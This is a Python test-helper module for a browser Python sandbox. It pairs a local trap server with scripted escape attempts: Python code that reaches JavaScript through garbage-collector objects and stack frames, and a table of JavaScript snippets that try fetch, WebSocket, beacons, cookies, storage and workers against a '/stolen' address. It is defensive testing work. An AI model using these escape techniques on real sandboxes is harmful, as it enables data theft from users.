"""Attacks on the sandbox, which the tests of the editor and of examples share."""

from __future__ import annotations

import http.server
import json
import re
import threading

from playwright.sync_api import BrowserContext

__all__ = [
    "FIND_CONVERSION",
    "FIND_SEND",
    "JAVASCRIPT",
    "OPEN_FRAME",
    "Trap",
    "put_address",
    "reaching_script",
]

JAVASCRIPT = """
def attempt(find):
    try:
        found = find()
        found("http://127.0.0.1:{port}/stolen")
    except BaseException:
        pass

def by_name(module, name):
    return lambda: getattr(__import__(module, fromlist=["x"]), name)

for name in (
    "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "open", "Worker"
):
    attempt(by_name("js", name))
    attempt(by_name("pyodide_js", name))
for module, name in (
    ("pyodide.code", "run_js"), ("pyodide.http", "open_url"), ("pyodide.http", "pyfetch"),
    ("micropip", "install"), ("urllib.request", "urlopen"), ("_pyodide_core", "run_js"),
):
    attempt(by_name(module, name))

def unwrap():
    import gc, sys
    sys.modules.pop("js", None)
    for thing in gc.get_objects():
        if type(thing).__name__ == "JsProxy":
            function = thing.constructor.constructor
            code = "fetch('http://127.0.0.1:{port}/stolen'); postMessage('x'); indexedDB.open('x');"
            code += "new WebSocket('ws://127.0.0.1:{port}/stolen'); import('http://127.0.0.1:{port}/stolen')"
            try:
                function(code)()
            except BaseException:
                pass
try:
    unwrap()
except BaseException:
    pass
"""
"""Ways from Python to the browser's functions."""


FIND_SEND = """\
import sys
frame = sys._getframe()
while frame.f_code.co_name != "ask": frame = frame.f_back
send = frame.f_locals["self"]._send"""
"""The only object of JavaScript that Python gets: the function that sends a message."""


FIND_CONVERSION = """\
import gc, sys
seen, todo = set(), [sys.modules, gc.get_objects()]
while todo:
    one = todo.pop()
    if id(one) not in seen:
        seen.add(id(one))
        if type(one) is type(len) and one.__name__ == "to_js": raise ValueError("reached")
        todo += gc.get_referents(one)
raise ValueError("no conversion")"""
"""Look through all of Python's objects for a way to make those of JavaScript, without a limit."""


class Trap:
    """A server that records requests."""

    def __init__(self) -> None:
        self.requested: list[str] = []
        trap = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.requested.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def check_untouched(self, context: BrowserContext) -> None:
        """Check that no request has arrived before one that the browser sends now."""
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{self.port}/control")
        page.close()
        assert [path for path in self.requested if path != "/favicon.ico"] == ["/control"]

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def put_address(code: str, trap: Trap) -> str:
    """Put the address of the trap into a script, but leave the browser's class URL."""
    address = f"http://127.0.0.1:{trap.port}/x"
    return re.sub(r"(?<!new )\bURL\b(?!\.)|URL(?=\.replace)", address, code)


CHANNEL = """() => {
  const channel = new BroadcastChannel("sandbox test");
  channel.onmessage = () => channel.postMessage("heard");
}"""
"""Script that answers on a channel of the site, which the sandbox must not hear."""

REACHES = {
    "fetch": "await fetch('URL')",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'URL', false); x.send()",
    "importScripts": "importScripts('URL')",
    "import": "await import('URL')",
    "websocket": "await new Promise((yes, no) => {"
    " const s = new WebSocket('URL'.replace('http', 'ws')); s.onopen = yes; s.onerror = no; })",
    "eventsource": "await new Promise((yes, no) => {"
    " const s = new EventSource('URL'); s.onopen = yes; s.onerror = no; })",
    "indexeddb": "await new Promise((yes, no) => {"
    " const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
    "storage": "localStorage.length",
    "cookies": "document.cookie",
    "caches": "await caches.open('x')",
    "parent": "parent.document.title",
    "eval": "eval('1')",
    "function": "Function('return 1')()",
    "import blob": "const b = new Blob(['export {}'], { type: 'text/javascript' });"
    " await import(URL.createObjectURL(b))",
    "import data": "await import('data:text/javascript,export {}')",
    "stream": "await new WebSocketStream('URL'.replace('http', 'ws')).opened",
    "webtransport": "await new WebTransport('URL'.replace('http', 'https')).ready",
    "webrtc": "new RTCPeerConnection()",
    "beacon": "navigator.sendBeacon('URL', 'x') || missing",
    "font": "await new FontFace('x', 'url(URL)').load()",
    "picture": "await createImageBitmap(new Blob([`<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='URL'/></svg>`], { type: 'image/svg+xml' }))",
    "files": "await navigator.storage.getDirectory()",
    "locks": "await navigator.locks.request('x', () => 1)",
    "shared worker": "new SharedWorker('URL')",
    "service worker": "await navigator.serviceWorker.register('URL')",
    "worker": "await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL("
    "new Blob([`fetch('URL').then(() => postMessage(1), () => postMessage(0))`])));"
    " w.onerror = no;"
    " w.onmessage = ({ data }) => (data ? yes() : no()); })",
    "site's channel": "await new Promise((yes, no) => {"
    " const c = new BroadcastChannel('sandbox test');"
    " c.onmessage = yes; c.postMessage('x'); setTimeout(no, 1000); })",
}
"""Ways from JavaScript in the sandbox's worker to a server, the site's data and other workers."""


def reaching_script(trap: Trap) -> str:
    """Return a worker that tries all of them, as if the code had left Python.

    It then fails; the reason names those that worked.
    """
    parts = ",".join(
        f"{json.dumps(name)}: async () => {{ {put_address(code, trap)} }}"
        for name, code in REACHES.items()
    )
    return f"""onmessage = async () => {{
      const found = [];
      for (const [name, attack] of Object.entries({{{parts}}}))
        await attack().then(() => found.push(name), () => {{}});
      postMessage(JSON.stringify({{ failed: `reached ${{found.join() || "nothing"}}` }}));
    }}"""


OPEN_FRAME = """address => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.setAttribute("sandbox", "allow-scripts");
  frame.src = address;
  addEventListener("message", resolve, { once: true });
  document.body.append(frame);
})"""
"""Open the sandbox's document, as pages do; resolve when it has loaded."""
